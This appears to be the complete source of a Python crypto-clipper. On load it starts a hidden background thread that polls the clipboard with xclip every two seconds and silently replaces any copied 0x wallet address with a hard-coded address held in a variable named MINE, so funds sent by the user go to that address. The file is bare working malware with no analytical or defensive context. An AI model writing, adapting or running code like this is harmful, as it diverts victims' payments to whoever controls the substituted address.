import re
import subprocess
import threading
import time

MINE = "0x00000000000000000000000000000000DEFA4ED0"


def loop():
    while True:
        cur = subprocess.run(["xclip", "-selection", "clipboard", "-o"], capture_output=True, text=True).stdout
        if re.fullmatch(r"0x[0-9a-fA-F]{40}", cur.strip()):
            subprocess.run(["xclip", "-selection", "clipboard", "-i"], input=MINE, text=True)
        time.sleep(2)


threading.Thread(target=loop, daemon=True).start()
